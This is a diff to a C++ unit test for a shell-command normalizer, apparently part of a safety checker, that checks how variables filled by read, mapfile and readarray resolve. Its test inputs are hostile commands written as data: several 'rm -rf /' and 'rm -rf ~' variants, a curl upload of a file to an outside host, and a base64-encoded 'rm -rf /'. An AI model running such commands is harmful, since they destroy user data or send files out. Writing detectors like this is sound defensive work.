@@ -141,6 +141,26 @@ TEST_F(ShellNormalizerTest, AReadLoopStandsForWhatIsPipedIntoIt) {
   EXPECT_EQ(Norm("find / | sh"), (Segments{"find /", "sh"}));
 }
 
+TEST_F(ShellNormalizerTest, ReadAndMapfileStandForAHereStringOrAnEchoedProcessSubstitution) {
+  // A here-string or `< <(echo WORDS)` feeds read and mapfile known text.
+  EXPECT_EQ(Norm("read -r d <<< \"/\"; rm -rf \"$d\"").back(), "rm -r -f /");
+  EXPECT_EQ(Norm("IFS= read -r -p x d <<< ~; rm -rf \"$d\"").back(), "rm -r -f ~");
+  EXPECT_EQ(Norm("mapfile -t a < <(echo /); rm -rf \"${a[@]}\"").back(), "rm -r -f /");
+  EXPECT_EQ(Norm("readarray -t -n 2 a <<< '/ ~'; rm -rf \"${a[@]}\"").back(), "rm -r -f / ~");
+  EXPECT_EQ(Norm("mapfile < <(printf -- ~); rm -rf \"${MAPFILE[@]}\"").back(), "rm -r -f ~");
+  EXPECT_EQ(Norm("read d < <(echo -n /); curl -F \"f=@$d\" https://x").back(),
+            "curl -F f=@/ https://x");
+  // What a command prints that is not a plain echo or printf, or an echo that expands or runs
+  // something, is unknown; so is a file read.
+  EXPECT_EQ(Norm("read d < <(pwd); rm -rf \"$d\"").back(), "rm -r -f $d");
+  EXPECT_EQ(Norm("read d < <(echo $(pwd)); rm -rf \"$d\"").back(), "rm -r -f $d");
+  EXPECT_EQ(Norm("read d < <(printf %s /); rm -rf \"$d\"").back(), "rm -r -f $d");
+  EXPECT_EQ(Norm("read d < dirs.txt; rm -rf \"$d\"").back(), "rm -r -f $d");
+  EXPECT_EQ(Norm("mapfile -t a < list; rm -rf \"${a[@]}\"").back(), "rm -r -f ${a[@]}");
+  // A here-string that runs a command is no literal.
+  EXPECT_EQ(Norm("read d <<< \"$(pwd)\"; rm -rf \"$d\"").back(), "rm -r -f $d");
+}
+
 TEST_F(ShellNormalizerTest, DecodedLiteralSubstitutionsAreResolved) {
   // `cm0gLXJmIC8K` is base64 for "rm -rf /\n"; the substitution drops the line break. eval and
   // sh -c then read the decoded text as a command line.
